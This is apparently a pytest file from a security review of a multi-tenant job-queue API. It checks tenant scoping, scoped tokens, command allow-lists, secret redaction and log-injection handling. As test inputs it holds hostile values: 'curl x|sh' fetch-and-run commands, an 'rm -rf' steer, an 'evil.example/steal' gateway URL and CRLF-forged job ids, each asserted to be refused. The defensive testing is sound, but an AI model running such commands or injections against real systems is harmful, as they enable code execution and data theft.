        other = rid(made[1].json()["job"]["jobId"], org)
        assert (await operations.fail_undeliverable(store, other, error="x")).ok
        again = await c.post("/jobs/retry", json={"agentId": "codex"}, headers=as_org)
        assert again.status_code == 200 and again.json()["count"] == 1  # one place was free
        # Agent jobs count their own unfinished ones against the same cap.
        agent_jobs = [
            await c.post("/agent-jobs", json=agent_job_body(), headers=as_org) for _ in range(3)
        ]
        assert [a.status_code for a in agent_jobs[:2]] == [201, 201]
        assert (
            "unfinished agent jobs"
            in assert_error(agent_jobs[2], 429, "too_many_requests")["message"]
        )


# --- finding 9: /metrics open and labelled by tenants ----------------------------------------


async def test_metrics_need_an_admin_token(client: httpx.AsyncClient) -> None:
    assert_error(await client.get("/metrics"), 401, "unauthorized")
    assert_error(await client.get("/metrics", headers=AS_A), 403, "forbidden")
    deep: Any = 1
    for _ in range(80):
        deep = [deep]
    refused = await client.post(
        "/agents/codex/jobs", json=enqueue_body(payload_extra={"d": deep}), headers=AS_A
    )
    assert refused.status_code == 422
    response = await client.get("/metrics", headers=AS_ADMIN)
    assert response.status_code == 200 and "python_gc_objects_collected_total" in response.text
    # Each refusal at a limit is counted by limit.
    assert 'receipt_api_limited_total{limit="body_shape"}' in response.text


async def test_invented_agent_ids_share_one_other_label(store: Store) -> None:
    from prometheus_client import REGISTRY

    from receipts import metric_counts, metrics

    mismatches = "receipt_jobs_idempotency_mismatches_total"
    before = metrics.value(mismatches, agent="codex")
    invented: list[Job] = []
    for n in range(300):
        invented.append((await put(store, agent=f"invented-{n}-{new_id()}", org="org-m")).job)
    for job in invented:
        metric_counts.job_enqueued(job.lane, job.kind, job.agent_id, "created")
    codex = (await put(store, agent="codex", org="org-m")).job
    metric_counts.job_enqueued(codex.lane, codex.kind, codex.agent_id, "created")
    metric_counts.job_enqueued(codex.lane, codex.kind, codex.agent_id, "existing", True)
    text = generate_latest(REGISTRY).decode()
    assert "invented-" not in text
    assert 'agent="other"' in text and 'agent="codex"' in text
    assert metrics.value(mismatches, agent="codex") - before == 1


# --- findings 10, 11: ids are scoped by organization, well-formed, and watchdog ids the system's


async def test_another_organizations_id_answers_as_an_unknown_one(
    client: httpx.AsyncClient, store: Store
) -> None:
    ours = new_id()
    await client.post("/agents/codex/jobs", json=enqueue_body(jobId=ours), headers=AS_A)
    answers = []
    for job_id in (ours, new_id()):
        response = await client.post(
            "/agents/codex/jobs", json=enqueue_body(org="org-b", jobId=job_id), headers=AS_B
        )
        answers.append((response.status_code, response.json()["outcome"]))
        for path in (f"/jobs/{job_id}", f"/jobs/{job_id}/events"):
            assert (await client.get(path, headers=AS_B)).status_code == 200
    assert answers == [(202, "created"), (202, "created")]
    assert await types(store, rid(ours)) == ["job.enqueued"]


@pytest.mark.parametrize(
    "job_id", ["a\nb", "line\r\nforged", "tab\tid", "sp ace", "x" * 201, "", "é"]
)
async def test_a_job_id_outside_the_pattern_is_refused(
    client: httpx.AsyncClient, store: Store, job_id: str
) -> None:
    response = await client.post(
        "/agents/codex/jobs", json=enqueue_body(jobId=job_id), headers=AS_A
    )
    error = assert_error(response, 422, "invalid_input")
    assert error["field"] == "jobId" and "letters, digits" in error["message"]
    assert await store.get_job(rid(job_id)) is None


async def test_only_the_system_creates_watchdog_jobs(client: httpx.AsyncClient) -> None:
    watchdog = {
        "jobId": "watchdog:2030-01-01T00:00:00Z",
        "payload": {"kind": "factory.objective.watchdog"},
    }
    response = await client.post("/agents/factory-control/jobs", json=watchdog, headers=AS_ADMIN)
    assert assert_error(response, 422, "invalid_input")["field"] == "jobId"


async def test_a_repost_with_another_payload_returns_the_existing_job_unchanged_and_says_so(
    client: httpx.AsyncClient, store: Store
) -> None:
    """The spec: "An explicit jobId that already exists returns the existing job unchanged."
    A re-post with another payload (or agent) is answered as any re-post, and flagged."""
    job_id = new_id()
    first = enqueue_body(jobId=job_id, payload_extra={"n": 1})
    created = await client.post("/agents/codex/jobs", json=first, headers=AS_A)
    assert created.status_code == 202 and not created.json()["async"]["idempotencyMismatch"]
    same = await client.post("/agents/codex/jobs", json=first, headers=AS_A)
    assert same.status_code == 202 and same.json()["outcome"] == "existing"
    assert same.json()["async"]["idempotencyMismatch"] is False
    changed = enqueue_body(jobId=job_id, payload_extra={"n": 2})
    for agent in ("codex", "factory"):
        response = await client.post(f"/agents/{agent}/jobs", json=changed, headers=AS_A)
        assert response.status_code == 202, response.text
        answer = response.json()
        assert answer["outcome"] == "existing" and answer["async"]["idempotencyMismatch"] is True
        assert answer["job"]["payload"]["n"] == 1 and answer["job"]["agentId"] == "codex"
    assert await types(store, rid(job_id)) == ["job.enqueued"]


async def test_a_repost_of_a_factory_run_whose_objective_id_was_assigned_is_the_same_request(
    client: httpx.AsyncClient,
) -> None:
    """A `factory.run` naming no objective is given an id at each parse: the re-post of the same
    body is the same request (no mismatch flagged), one with another payload still is not."""
    job_id = new_id()
    body = enqueue_body(kind="factory.run", jobId=job_id, payload_extra={"goal": "g"})
    first = await client.post("/agents/factory/jobs", json=body, headers=AS_A)
    assert first.status_code == 202, first.text
    again = await client.post("/agents/factory/jobs", json=body, headers=AS_A)
    assert again.json()["outcome"] == "existing"
    assert again.json()["async"]["idempotencyMismatch"] is False
    assert again.json()["job"]["payload"] == first.json()["job"]["payload"]
    other = enqueue_body(kind="factory.run", jobId=job_id, payload_extra={"goal": "h"})
    changed = await client.post("/agents/factory/jobs", json=other, headers=AS_A)
    assert changed.json()["async"]["idempotencyMismatch"] is True


async def test_an_idempotency_key_makes_an_id_less_post_retryable(
    client: httpx.AsyncClient,
) -> None:
    key = {"Idempotency-Key": new_id("key")}
    body = enqueue_body()
    first = await client.post("/agents/codex/jobs", json=body, headers={**AS_A, **key})
    retry = await client.post("/agents/codex/jobs", json=body, headers={**AS_A, **key})
    fresh = await client.post("/agents/codex/jobs", json=body, headers=AS_A)
    assert first.json()["outcome"] == "created" and retry.json()["outcome"] == "existing"
    assert first.json()["job"]["jobId"] == retry.json()["job"]["jobId"]
    assert fresh.json()["job"]["jobId"] != first.json()["job"]["jobId"]
    # The id made up for an id-less post is scoped like a named one: the organization reads the
    # job by it, the chain holds it under the runtime id.
    shown = fresh.json()["job"]["jobId"]
    assert (await client.get(f"/jobs/{shown}", headers=AS_A)).json()["jobId"] == shown
    assert (await client.get(f"/jobs/{rid(shown)}", headers=AS_ADMIN)).status_code == 200


# --- finding 12: the rest ---------------------------------------------------------------------


async def test_a_five_thousand_digit_last_event_id_is_refused_not_500(
    client: httpx.AsyncClient,
) -> None:
    job_id = (await client.post("/agents/codex/jobs", json=enqueue_body(), headers=AS_A)).json()[
        "job"
    ]["jobId"]
    response = await client.get(
        f"/jobs/{job_id}/events", headers={**AS_A, "Last-Event-ID": "9" * 5000}
    )
    assert assert_error(response, 422, "invalid_input")["field"] == "Last-Event-ID"


async def test_auth_context_is_strict_and_the_gateway_url_allow_listed(db_url: str) -> None:
    gateway = "https://gw.example.com/"
    async with api_client(
        db_url, gateway_url_allowlist=[gateway, "https://other.example.com"]
    ) as client:

        def with_auth(**extra: str) -> dict[str, Any]:
            body = enqueue_body()
            body["payload"]["authContext"].update(extra)
            return body

        extra_key = await client.post(
            "/agents/codex/jobs", json=with_auth(isAdmin="yes"), headers=AS_A
        )
        error = assert_error(extra_key, 422, "invalid_input")
        assert error["field"] == "payload.authContext.isAdmin"
        foreign = await client.post(
            "/agents/codex/jobs",
            json=with_auth(receiptConnectGatewayUrl="https://evil.example/steal"),
            headers=AS_A,
        )
        error = assert_error(foreign, 422, "invalid_input")
        assert error["field"] == "payload.authContext.receiptConnectGatewayUrl"
        assert error["allowed"] == [gateway, "https://other.example.com"]
        lookalike = await client.post(
            "/agents/codex/jobs",
            json=with_auth(receiptConnectGatewayUrl="https://other.example.com.evil.net/x"),
            headers=AS_A,
        )
        assert_error(lookalike, 422, "invalid_input")
        allowed = await client.post(
            "/agents/codex/jobs",
            json=with_auth(receiptConnectGatewayUrl=gateway + "v1"),
            headers=AS_A,
        )
        assert allowed.status_code == 202, allowed.text


async def test_task_env_values_are_redacted_from_reads_and_callbacks(
    client: httpx.AsyncClient, store: Store
) -> None:
    from activities.driver import post_callbacks
    from tests.integration.delivery.receiver import Receiver

    secret = "hunter2-" + new_id()
    body = enqueue_body(payload_extra={"task": {"command": ["true"], "env": {"API_KEY": secret}}})
    response = await client.post("/agents/codex/jobs", json=body, headers=AS_A)
    assert response.status_code == 202 and secret not in response.text
    job_id = response.json()["job"]["jobId"]
    assert response.json()["job"]["payload"]["task"]["env"] == {"API_KEY": "[redacted]"}
    for path in (f"/jobs/{job_id}", f"/jobs/{job_id}/events", "/jobs"):
        shown = await client.get(path, headers=AS_A)
        assert shown.status_code == 200 and secret not in shown.text and "API_KEY" in shown.text
    # The live stream too (the job is aborted first, so the stream ends and can be read whole);
    # it names the job by the organization's id, never the runtime's tagged one.
    abort = await client.post(f"/jobs/{job_id}/commands", json={"type": "abort"}, headers=AS_A)
    assert abort.status_code == 202
    live = await client.get(
        f"/jobs/{job_id}/events", headers={**AS_A, "Accept": "text/event-stream"}
    )
    assert "event: end" in live.text and "API_KEY" in live.text
    assert secret not in live.text and rid(job_id) not in live.text
    stored = await store.get_job(rid(job_id))
    assert stored is not None and stored.payload["task"]["env"] == {"API_KEY": secret}
    async with Receiver() as receiver, httpx.AsyncClient() as http:
        settings = Settings(RECEIPT_EVENT_CALLBACK_URL=receiver.url)
        assert await post_callbacks(store, settings, http, stored, "completed") == 1
    assert secret.encode() not in receiver.requests[0].body
    assert b"[redacted]" in receiver.requests[0].body


def test_scopes_decide_who_may_run_commands_and_read() -> None:
    table = TokenTable(
        parse_lines(
            "reader org-a jobs:read\nwriter org-a jobs:write\nrunner org-a jobs:write "
            "commands:run\nall org-a\nroot *",
            "test",
        )
    )
    reader, writer, runner, every, root = (
        table.authenticate(t) for t in ("reader", "writer", "runner", "all", "root")
    )
    assert reader and writer and runner and every and root
    assert reader.can("jobs:read") and not reader.can("jobs:write")
    assert writer.can("jobs:write") and not writer.can("commands:run")
    assert runner.can("commands:run") and not runner.can("admin")
    assert every.can("commands:run") and not every.can("admin")
    assert root.can("admin") and root.can("commands:run")


async def test_scoped_tokens_and_the_executable_allow_list(db_url: str) -> None:
    tokens = (
        "read-tok org-a jobs:read\nwrite-tok org-a jobs:write\n"
        "run-tok org-a jobs:read jobs:write commands:run"
    )
    executables = json.dumps({"org-a": ["git", "pytest"]})
    as_reader = {"Authorization": "Bearer read-tok"}
    as_writer = {"Authorization": "Bearer write-tok"}
    as_runner = {"Authorization": "Bearer run-tok"}

    def codex(*argv: str) -> dict[str, Any]:
        return enqueue_body(payload_extra={"task": {"command": list(argv)}})

    async with api_client(db_url, tokens=tokens, RECEIPT_ORG_EXECUTABLES=executables) as c:
        assert_error(
            await c.post("/agents/codex/jobs", json=codex("git", "status"), headers=as_reader),
            403,
            "forbidden",
        )
        no_run = await c.post("/agents/codex/jobs", json=codex("git", "status"), headers=as_writer)
        assert "commands:run" in assert_error(no_run, 403, "forbidden")["message"]
        # An agent job's answer is the input of a turn that runs its command: as a follow-up.
        answer = await c.post("/agent-jobs/aj-x/input", json={"answer": "y"}, headers=as_writer)
        assert "commands:run" in assert_error(answer, 403, "forbidden")["message"]
        # A kind that runs no command needs no commands:run (a job of an agent with no handler).
        chat = await c.post("/agents/helper/jobs", json=enqueue_body(), headers=as_writer)
        assert chat.status_code == 202, chat.text
        # One that makes the tasks that run them does: a factory.run, a factory.dispatch.
        sh = {"taskId": "t", "input": {"command": ["sh", "-c", "curl x|sh"]}}
        plan = {"objective": {"title": "t", "goal": "g", "tasks": [sh]}}
        run = enqueue_body(kind="factory.run", payload_extra=plan)
        refused = await c.post("/agents/factory/jobs", json=run, headers=as_writer)
        assert "commands:run" in assert_error(refused, 403, "forbidden")["message"]
        dispatch = enqueue_body(kind="factory.dispatch", payload_extra={"tasks": [sh]})
        refused = await c.post("/agents/factory/jobs", json=dispatch, headers=as_writer)
        assert "commands:run" in assert_error(refused, 403, "forbidden")["message"]
        # And every command they name is on the allow-list, as a codex job's.
        for body, field in [
            (run, "payload.objective.tasks[0].input.command"),
            (dispatch, "payload.tasks[0].input.command"),
        ]:
            listed = await c.post("/agents/factory/jobs", json=body, headers=as_runner)
            assert assert_error(listed, 403, "forbidden")["field"] == field
        objective = {**plan["objective"], "validate": {"command": ["git", "status"]}}
        posted = await c.post("/objectives", json=objective, headers=as_runner)
        # the body is the objective: its fields are named as the caller sent them
        assert assert_error(posted, 403, "forbidden")["field"] == "tasks[0].input.command"
        allowed = {**objective, "tasks": [{"taskId": "t", "input": {"command": ["pytest"]}}]}
        assert (await c.post("/objectives", json=allowed, headers=as_runner)).status_code == 202
        assert_error(await c.get("/jobs", headers=as_writer), 403, "forbidden")
        assert (await c.get("/jobs", headers=as_reader)).status_code == 200
        ok = await c.post("/agents/codex/jobs", json=codex("git", "status"), headers=as_runner)
        assert ok.status_code == 202, ok.text
        curl = await c.post(
            "/agents/codex/jobs", json=codex("sh", "-c", "curl x|sh"), headers=as_runner
        )
        error = assert_error(curl, 403, "forbidden")
        assert error["field"] == "payload.task.command" and error["allowed"] == ["git", "pytest"]
        # The command a handler runs is the one checked: `input.command` wins over `task`.
        hidden = enqueue_body(
            payload_extra={"task": {"command": ["git"]}, "input": {"command": ["curl", "x"]}}
        )
        refused = await c.post("/agents/codex/jobs", json=hidden, headers=as_runner)
        assert assert_error(refused, 403, "forbidden")["field"] == "payload.input.command"
        step = enqueue_body(
            kind="factory.integration.validate",
            payload_extra={"input": {"command": ["curl", "x"]}, "step": "validate"},
        )
        refused = await c.post("/agents/codex/jobs", json=step, headers=as_runner)
        assert assert_error(refused, 403, "forbidden")["field"] == "payload.input.command"


def test_a_crlf_in_a_job_id_cannot_forge_a_log_line() -> None:
    from roles.infra.logs import HumanFormatter

    record = logging.LogRecord(
        "roles.api.app", logging.INFO, __file__, 1, "job enqueued", None, None
    )
    record.__dict__["jobId"] = "x\r\n12:00:00.000 INFO    [api] roles.api.app: forged"
    line = HumanFormatter("api").format(record)
    assert "\n" not in line and "\r" not in line
    assert "jobId=x\\r\\n12:00:00.000" in line


async def test_a_stream_slot_comes_back_even_if_the_stream_never_started() -> None:
    import gc

    from roles.api.limits import StreamGate

    async def events() -> AsyncIterator[str]:
        yield "id: 1\n\n"

    gate = StreamGate(overall=10, per_token=1)
    never_started = gate.acquire("t").held_by(events())
    with pytest.raises(Exception, match="RECEIPT_SSE_MAX_STREAMS_PER_CALLER"):
        gate.acquire("t")
    del never_started  # the client left before the response began
    gc.collect()
    finished = gate.acquire("t").held_by(events())
    assert [event async for event in finished] == ["id: 1\n\n"]
    assert gate.total == 0


async def test_a_steer_absorbed_into_a_job_that_runs_commands_needs_commands_run(
    db_url: str, store: Store
) -> None:
    """A steer singleton posted to any agent lands in the session's active job: into a codex
    job its payload reaches the command, so it needs `commands:run` as a direct steer does."""
    tokens = "write-tok org-a jobs:read jobs:write\nrun-tok org-a jobs:read jobs:write commands:run"
    as_writer = {"Authorization": "Bearer write-tok"}
    as_runner = {"Authorization": "Bearer run-tok"}
    session = new_id("session")
    task = {"task": {"command": ["true"], "steerable": True}}
    async with api_client(db_url, tokens=tokens) as c:
        codex = enqueue_body(sessionKey=session, payload_extra=task)
        made = await c.post("/agents/codex/jobs", json=codex, headers=as_runner)
        assert made.status_code == 202, made.text
        steer = enqueue_body(sessionKey=session, singletonMode="steer", payload_extra={"n": 1})
        refused = await c.post("/agents/helper/jobs", json=steer, headers=as_writer)
        error = assert_error(refused, 403, "forbidden")
        assert error["field"] == "singletonMode" and "commands:run" in error["message"]
        absorbed = await c.post("/agents/helper/jobs", json=steer, headers=as_runner)
        assert absorbed.status_code == 202 and absorbed.json()["outcome"] == "steered"
    job_id = made.json()["job"]["jobId"]
    assert await types(store, rid(job_id)) == ["job.enqueued", "queue.command"]


async def test_steering_retrying_and_agent_jobs_need_the_scopes_of_what_they_run(
    db_url: str, store: Store
) -> None:
    from receipts import operations

    tokens = (
        "read-tok org-a jobs:read\nwrite-tok org-a jobs:read jobs:write\n"
        "run-tok org-a jobs:read jobs:write commands:run"
    )
    as_reader = {"Authorization": "Bearer read-tok"}
    as_writer = {"Authorization": "Bearer write-tok"}
    as_runner = {"Authorization": "Bearer run-tok"}
    job_id = new_id()
    async with api_client(db_url, tokens=tokens) as c:
        posted = await c.post(
            "/agents/codex/jobs",
            json=enqueue_body(jobId=job_id, payload_extra={"task": {"command": ["true"]}}),
            headers=as_runner,
        )
        assert posted.status_code == 202, posted.text
        steer = {"type": "steer", "payload": {"say": "run rm -rf"}}
        refused = await c.post(f"/jobs/{job_id}/commands", json=steer, headers=as_writer)
        assert "commands:run" in assert_error(refused, 403, "forbidden")["message"]
        assert_error(
            await c.post(f"/jobs/{job_id}/commands", json=steer, headers=as_reader),
            403,
            "forbidden",
        )
        steered = await c.post(f"/jobs/{job_id}/commands", json=steer, headers=as_runner)
        assert steered.status_code == 202
        assert (await operations.fail_undeliverable(store, rid(job_id), error="x")).ok
        no_retry = await c.post(f"/jobs/{job_id}/retry", headers=as_writer)
        assert "commands:run" in assert_error(no_retry, 403, "forbidden")["message"]
        bulk = await c.post("/jobs/retry", json={"agentId": "codex"}, headers=as_writer)
        assert_error(bulk, 403, "forbidden")
        create = {
            "agentId": "helper",
            "ownerSessionId": "s-1",
            "sourceActorEventId": "e-1",
            "sourceToolCallId": "t-1",
            "replyRoute": {"binding": "slack", "channel": "C1"},
            "input": {"prompt": "go"},
        }
        agent_job = await c.post("/agent-jobs", json=create, headers=as_writer)
        assert "commands:run" in assert_error(agent_job, 403, "forbidden")["message"]
        # Cancelling is a write, of an objective as of a job or an agent job.
        for path in ("/objectives/some-objective/cancel", "/agent-jobs/some-job/cancel"):
            refused = await c.post(path, headers=as_reader)
            assert "jobs:write" in assert_error(refused, 403, "forbidden")["message"]
        assert_error(
            await c.get("/sessions/s-1/events", headers={"Authorization": "Bearer none"}),
            401,
            "unauthorized",
        )
    job = await store.get_job(rid(job_id))
    assert job is not None and job.retried_as is None
    assert [c.type for c in job.commands] == ["steer"]


async def test_an_organization_id_an_admin_names_is_held_to_200_characters(
    client: httpx.AsyncClient, store: Store
) -> None:
    """An admin token names the organization of a webhook or an agent job. One of 8 000
    characters that do not compress went as far as PostgreSQL's index, which refused the row
    (index row size), and the api answered 503 `storage_unavailable` with `Retry-After` (a
    database outage: a client retries it for ever). As a job's `authContext.organizationId`:
    at most 200 characters, 422 naming `organizationId`, nothing written."""
    for organization in ("o" * 201, secrets.token_urlsafe(6000)):
        hook = await client.post(
            "/webhooks",
            json={
                "url": "https://93.184.216.34/hook",
                "events": ["job.completed"],
                "organizationId": organization,
            },
            headers=AS_ADMIN,
        )
        assert assert_error(hook, 422, "invalid_input")["field"] == "organizationId"
        agent_job = await client.post(
            "/agent-jobs",
            json={
                "agentId": "codex",
                "ownerSessionId": "session-1",
                "sourceActorEventId": "event-1",
                "sourceToolCallId": new_id(),
                "replyRoute": {"binding": "slack", "channel": "C1"},
                "input": {"prompt": "work"},
                "organizationId": organization,
            },
            headers=AS_ADMIN,
        )
        assert assert_error(agent_job, 422, "invalid_input")["field"] == "organizationId"
        async with store.connection() as conn:
            for table in ("webhooks", "agent_jobs"):
                cur = await conn.execute(
                    f"SELECT count(*) FROM {table} WHERE organization_id = %(o)s",
                    {"o": organization},
                )
                assert await cur.fetchone() == (0,)
